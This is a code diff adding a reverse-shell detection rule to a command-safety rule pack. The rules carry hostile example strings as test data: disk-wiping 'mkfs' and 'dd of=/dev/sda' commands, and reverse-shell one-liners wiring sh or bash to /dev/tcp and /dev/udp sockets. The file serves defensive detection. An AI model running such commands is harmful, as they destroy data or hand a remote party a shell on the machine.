@@ -69,6 +69,13 @@ RULES = [
          raw="fallback", needles="mkfs of=/dev", tier=IRREVERSIBLE,
          args=r"\bmkfs(?:\.\w{1,8})?\s|\bof=/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk)",
          examples=["mkfs.ext4 /dev/sda1 'x", "dd if=/dev/zero of=/dev/sda 'x"], counter=["dd if=a of=b 'x"]),
+    rule("fallback.reverse-shell", CATASTROPHIC, "net exec obfuscation",
+         "text that could not be analysed wires a shell to a /dev/tcp or /dev/udp socket (a reverse shell)",
+         raw="fallback", needles="/dev/tcp/ /dev/udp/", tier=IRREVERSIBLE,
+         args=r"(?:^|[\s;&|(`])(?:/\S{0,40}/)?(?:ba|z|da|k|mk|a|c|tc|fi|y)?sh\b[^\n]{0,300}/dev/(?:tcp|udp)/[^\n]{0,300}(?:[<>]&\s{0,4}-?\d|\d<>)"
+              r"|/dev/(?:tcp|udp)/[^\n]{0,300}(?:^|[\s;&|(`])(?:/\S{0,40}/)?(?:ba|z|da|k|mk|a|c|tc|fi|y)?sh\b[^\n]{0,100}[<>]&\s{0,4}\d",
+         examples=["sh -i 5<> /dev/tcp/10.0.0.1/4444 0<&5 1>&5 2>&5", "/bin/bash -i 3<>/dev/udp/h/53 <&3 >&3 2>&3 'x"],
+         counter=["cat < /dev/tcp/time.example/13 'x", "echo 'sh' > /dev/tcp/h/80 'x"]),
 ]
 
 PACK = Pack("core.obfuscation", "Encoded, decoded, hidden or deeply nested commands.", rules=RULES, core=True)
